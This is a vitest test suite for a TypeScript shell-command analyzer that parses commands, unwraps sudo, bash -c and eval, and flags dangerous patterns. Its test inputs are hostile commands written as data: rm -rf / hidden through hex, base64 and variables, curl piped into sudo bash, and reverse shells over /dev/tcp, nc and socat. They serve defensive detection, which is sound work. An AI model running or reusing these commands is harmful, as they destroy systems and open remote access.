import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { describeCommand } from "./describe.js";
import type { Command } from "./types.js";

function names(cmd: string): string[] {
  const r = describeCommand(cmd);
  expect(r.parse_error).toBeNull();
  return r.commands.map((c) => c.program.name);
}

function find(cmd: string, name: string): Command {
  const r = describeCommand(cmd);
  expect(r.parse_error).toBeNull();
  const c = r.commands.find((x) => x.program.name === name);
  expect(c, `${name} in ${JSON.stringify(r.commands.map((x) => x.program.name))}`).toBeDefined();
  return c!;
}

describe("describeCommand: structure", () => {
  it("lists every command of pipelines, lists, subshells and groups in source order", () => {
    expect(names("a | b && c || d; (e; f) & { g; }")).toEqual(["a", "b", "c", "d", "e", "f", "g"]);
  });

  it("descends into nested $(), backticks and process substitutions", () => {
    expect(names("echo $(ls $(pwd)) `id -u`")).toEqual(["pwd", "ls", "id", "echo"]);
    expect(names("diff <(sort a) >(tee b)")).toEqual(["sort", "tee", "diff"]);
  });

  it("describes function bodies and if/for/while/case bodies", () => {
    expect(names("f() { rm x; }; f")).toEqual(["rm", "f"]);
    expect(names("if a; then b; elif c; then d; else e; fi")).toEqual(["a", "b", "c", "d", "e"]);
    expect(names("for x in $(seq 3); do p $x; done; while q; do r; done")).toEqual(["seq", "p", "q", "r"]);
    expect(names("case $x in a) s;; *) t;; esac")).toEqual(["s", "t"]);
    expect(names("[[ -f $(u) ]] && (( $(v) ))")).toEqual(["u", "v"]);
  });

  it("finds commands substituted inside heredocs, assignments and parameter defaults", () => {
    expect(names("cat <<EOF\n$(id)\nEOF")).toEqual(["id", "cat"]);
    expect(names("X=$(whoami)")).toEqual(["whoami"]);
    expect(names("echo ${x:-$(hostname)}")).toEqual(["hostname", "echo"]);
    expect(names("export A=$(date)")).toEqual(["date", "export"]);
  });

  it("does not run a quoted heredoc body", () => {
    const r = describeCommand("cat <<'EOF'\n$(rm -rf /)\nEOF");
    expect(r.commands.map((c) => c.program.name)).toEqual(["cat"]);
    expect(r.commands[0]!.redirects[0]).toMatchObject({ fd: 0, mode: "read", op: "<<", target: "$(rm -rf /)\n" });
    expect(find("cat <<\\EOF\na\\$b\nEOF", "cat").redirects[0]!.target).toBe("a\\$b\n");
    expect(find("cat <<EOF\na\\$b\nEOF", "cat").redirects[0]!.target).toBe("a$b\n");
  });
});

describe("describeCommand: words", () => {
  it("removes quotes, decodes $'…' and backslash escapes", () => {
    const c = find(`$'\\x72\\x6d' -r\\f "/"'' $'\\101\\u0042\\t'`, "rm");
    expect(c.args).toEqual(["-rf", "/", "AB\t"]);
    expect(c.dynamic).toBe(false);
  });

  it("keeps the text of runtime expansions and marks them dynamic", () => {
    const c = find('rm -rf "$HOME/x" ~', "rm");
    expect(c.args).toEqual(["-rf", "$HOME/x", "~"]);
    expect(c.dynamic).toBe(true);
    expect(c.program.dynamic).toBe(false);
  });

  it("gives basename and path of the program", () => {
    expect(find("/bin/rm x", "rm").program).toEqual({ name: "rm", path: "/bin/rm", dynamic: false });
    expect(find("rm x", "rm").program.path).toBeNull();
  });

  it("evaluates static command substitutions that produce the program name", () => {
    const c = find("$(echo rm) -rf /", "rm");
    expect(c.args).toEqual(["-rf", "/"]);
    expect(c.flags).toContain("dynamic_program");
    expect(names("$(echo rm -rf) /")).toEqual(["echo", "rm"]);
    expect(find("`printf '\\x72\\x6d'` -rf /", "rm").args).toEqual(["-rf", "/"]);
  });

  it("marks a program only known at run time", () => {
    const r = describeCommand("$(curl -s x) -rf /");
    const main = r.commands.at(-1)!;
    expect(main.program).toEqual({ name: "$(curl -s x)", path: null, dynamic: true });
    expect(main.flags).toContain("dynamic_program");
    expect(r.commands[0]).toMatchObject({ program: { name: "curl" }, pipes_to_shell: true });
  });

  it("collects env assignments and redirections with modes", () => {
    const c = find("A=1 B='x y' cmd <in >out 2>>log 3<>rw 2>&1 &>all >|clob <<<hs", "cmd");
    expect(c.env).toEqual({ A: "1", B: "x y" });
    expect(c.redirects.map((r) => [r.fd, r.op, r.mode, r.target])).toEqual([
      [0, "<", "read", "in"],
      [1, ">", "write", "out"],
      [2, ">>", "append", "log"],
      [3, "<>", "readwrite", "rw"],
      [2, ">&", "dup", "1"],
      [1, "&>", "write", "all"],
      [1, ">|", "write", "clob"],
      [0, "<<<", "read", "hs"],
    ]);
  });

  it("applies a compound command's redirections to the commands inside", () => {
    const r = describeCommand("{ echo a; echo b; } > /etc/x");
    expect(r.commands.every((c) => c.redirects[0]?.target === "/etc/x")).toBe(true);
    expect(r.flags).toContain("writes_etc");
  });
});

describe("describeCommand: wrappers and re-parsing", () => {
  it("unwraps prefix commands, recording the chain", () => {
    const c = find("sudo -u root -E env -i X=1 timeout -s KILL 5 nice -n 3 nohup stdbuf -oL ionice -c3 command exec rm -rf /", "rm");
    expect(c.wrappers).toEqual(["sudo", "env", "timeout", "nice", "nohup", "stdbuf", "ionice", "command", "exec"]);
    expect(c.env).toEqual({ X: "1" });
    expect(c.args).toEqual(["-rf", "/"]);
  });

  it("re-parses the strings given to shells, eval, su -c and watch", () => {
    expect(find('bash -c "rm -rf /"', "rm").wrappers).toEqual(["bash -c"]);
    expect(find("sudo sh -c 'cd /; rm -rf *'", "rm").wrappers).toEqual(["sudo", "sh -c"]);
    expect(find("bash -xec 'eval \"rm -rf /\"'", "rm").wrappers).toEqual(["bash -c", "eval"]);
    expect(find("su - root -c 'rm -rf /'", "rm").wrappers).toEqual(["su"]);
    expect(find("watch -n 1 rm -rf /tmp/x", "rm").wrappers).toEqual(["watch"]);
    expect(find("env -S 'rm -rf /'", "rm").wrappers).toEqual(["env -S"]);
    expect(find('sh -c "$(echo rm) -rf /"', "rm").args).toEqual(["-rf", "/"]);
  });

  it("describes the commands of find -exec and xargs", () => {
    const r = describeCommand("find / -name '*.log' -exec rm -f {} \\;");
    expect(r.commands.map((c) => c.program.name)).toEqual(["find", "rm"]);
    expect(r.commands[1]).toMatchObject({ args: ["-f", "/"], wrappers: ["find -exec"] });
    const x = find("ls | xargs -0 -n 1 rm -rf", "rm");
    expect(x.wrappers).toEqual(["xargs"]);
    expect(x.flags).toContain("args_from_stdin");
  });

  it("resolves variables assigned statically earlier in the line", () => {
    expect(find("x=rm; $x -rf /", "rm").flags).toContain("dynamic_program");
    expect(find('r="rm -rf /"; $r', "rm").args).toEqual(["-rf", "/"]);
    expect(find('x=rm; bash -c "$x -rf /"', "rm").wrappers).toEqual(["bash -c"]);
    expect(find("x=$(date); $x", "$x").program.dynamic).toBe(true);
  });

  it("gives xargs the arguments of static input", () => {
    expect(find("echo / | xargs rm -rf", "rm").args).toEqual(["-rf", "/"]);
    expect(find("ls | xargs rm -rf", "rm").args).toEqual(["-rf"]);
  });

  it("does not unwrap lookups: command -v, sudo -l", () => {
    expect(names("command -v rm")).toEqual(["command"]);
    expect(names("sudo -l")).toEqual(["sudo"]);
  });

  it("refuses shell code nested beyond the depth bound", () => {
    let cmd = "rm -rf /";
    for (let i = 0; i < 12; i++) cmd = `bash -c ${JSON.stringify(cmd).replace(/\$/g, "\\$")}`;
    expect(describeCommand(cmd).parse_error).toMatch(/nested/);
  });
});

describe("describeCommand: shells fed by pipes", () => {
  it("flags downloads piped into a shell, also through sudo and python -", () => {
    const r = describeCommand("curl -fsSL https://x.example/i.sh | sudo bash");
    expect(r.commands.map((c) => [c.program.name, c.pipes_to_shell, c.wrappers])).toEqual([
      ["curl", true, []],
      ["bash", false, ["sudo"]],
    ]);
    expect(find("wget -qO- x | python3 -", "wget").pipes_to_shell).toBe(true);
    expect(find("curl x | tee log | sh -s -- arg", "curl").pipes_to_shell).toBe(true);
    expect(find("curl x | bash script.sh", "curl").pipes_to_shell).toBe(false);
    expect(find("curl x | python -c 'print(1)'", "curl").pipes_to_shell).toBe(false);
  });

  it("flags substitutions into shell code and process substitution", () => {
    expect(find('bash -c "$(curl x)"', "curl").pipes_to_shell).toBe(true);
    expect(find("bash <(curl x)", "curl").pipes_to_shell).toBe(true);
    expect(find("source <(wget -O- x)", "wget").pipes_to_shell).toBe(true);
    expect(find("echo $(curl x)", "curl").pipes_to_shell).toBe(false);
  });

  it("decodes static text piped into a shell: base64, heredocs, here-strings", () => {
    const b = find("echo cm0gLXJmIC8K | base64 -d | sh", "rm");
    expect(b).toMatchObject({ args: ["-rf", "/"], wrappers: ["sh stdin"] });
    expect(find("cat <<EOF | bash\nrm -rf /\nEOF", "rm").args).toEqual(["-rf", "/"]);
    expect(find("bash <<< 'rm -rf /'", "rm").wrappers).toEqual(["bash stdin"]);
    expect(find("printf 'rm -rf /' | sudo sh", "rm").wrappers).toEqual(["sudo", "sh stdin"]);
  });
});

describe("describeCommand: flags", () => {
  it("flags rm -r/-f combinations, the root and --no-preserve-root", () => {
    expect(find("rm -r -f /", "rm").flags).toEqual(["rm_force", "rm_recursive", "rm_root"]);
    expect(find("rm -fR //*", "rm").flags).toEqual(["rm_force", "rm_recursive", "rm_root"]);
    expect(find("rm --recursive --no-preserve-root /", "rm").flags).toContain("rm_no_preserve_root");
    expect(find("rm -- -r", "rm").flags).toEqual([]);
  });

  it("flags reverse shells", () => {
    expect(find("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "bash").flags).toEqual(["network_redirect", "reverse_shell"]);
    expect(find("nc -e /bin/sh host 4444", "nc").flags).toContain("reverse_shell");
    expect(find("ncat --sh-exec sh host 1", "ncat").flags).toContain("reverse_shell");
    expect(find("socat tcp:h:1 EXEC:/bin/sh", "socat").flags).toContain("reverse_shell");
    expect(find("nc host 80", "nc").flags).toEqual([]);
  });

  it("flags writes under /etc and other system paths", () => {
    expect(find("echo x >> /etc//hosts", "echo").flags).toEqual(["writes_etc", "writes_system_path"]);
    expect(find("echo x | sudo tee -a /etc/sudoers", "tee").flags).toContain("writes_etc");
    expect(find("cp evil /usr/bin/ls", "cp").flags).toEqual(["writes_system_path"]);
    expect(find("dd if=x of=/boot/vmlinuz", "dd").flags).toEqual(["writes_system_path"]);
    expect(find("cat /etc/passwd", "cat").flags).toEqual([]);
  });

  it("flags privileged commands and find -delete; sums flags on the request", () => {
    const r = describeCommand("sudo find / -delete");
    expect(r.commands[0]!.flags).toEqual(["find_delete", "privileged"]);
    expect(r.flags).toEqual(["find_delete", "privileged"]);
  });
});

describe("describeCommand: errors", () => {
  it("returns parse_error for unparseable lines and for bad strings given to shells", () => {
    expect(describeCommand("echo 'abc")).toMatchObject({ parse_error: expect.stringMatching(/quote/), commands: [] });
    expect(describeCommand("if then fi").parse_error).toEqual(expect.any(String));
    expect(describeCommand("bash -c 'echo \"'").parse_error).toMatch(/bash -c/);
  });

  it("describes an empty line as no commands", () => {
    expect(describeCommand("  # just a comment")).toEqual({ command: "  # just a comment", parse_error: null, commands: [], flags: [] });
  });

  it("never throws, on any string", () => {
    const shellish = fc.array(
      fc.constantFrom("rm", " ", "-rf", "/", "'", '"', "$(", ")", "`", "|", "&&", ";", "<<", "EOF", "\n", "$'\\x", "{", "}", "(", "bash -c ", "sudo ", "\\", "<(", ">&", "#", "${", "eval ", "xargs ", "find / -exec ", "echo cm0= | base64 -d | sh"),
      { maxLength: 25 },
    ).map((parts) => parts.join(""));
    fc.assert(
      fc.property(fc.oneof(fc.string({ maxLength: 200 }), fc.string({ unit: "binary", maxLength: 60 }), shellish), (s) => {
        const r = describeCommand(s);
        expect(r.command).toBe(s);
        expect(r.parse_error === null || typeof r.parse_error === "string").toBe(true);
        if (r.parse_error !== null) expect(r.commands).toEqual([]);
        for (const c of r.commands) expect(typeof c.program.name).toBe("string");
      }),
      { numRuns: 1000 },
    );
  });
});
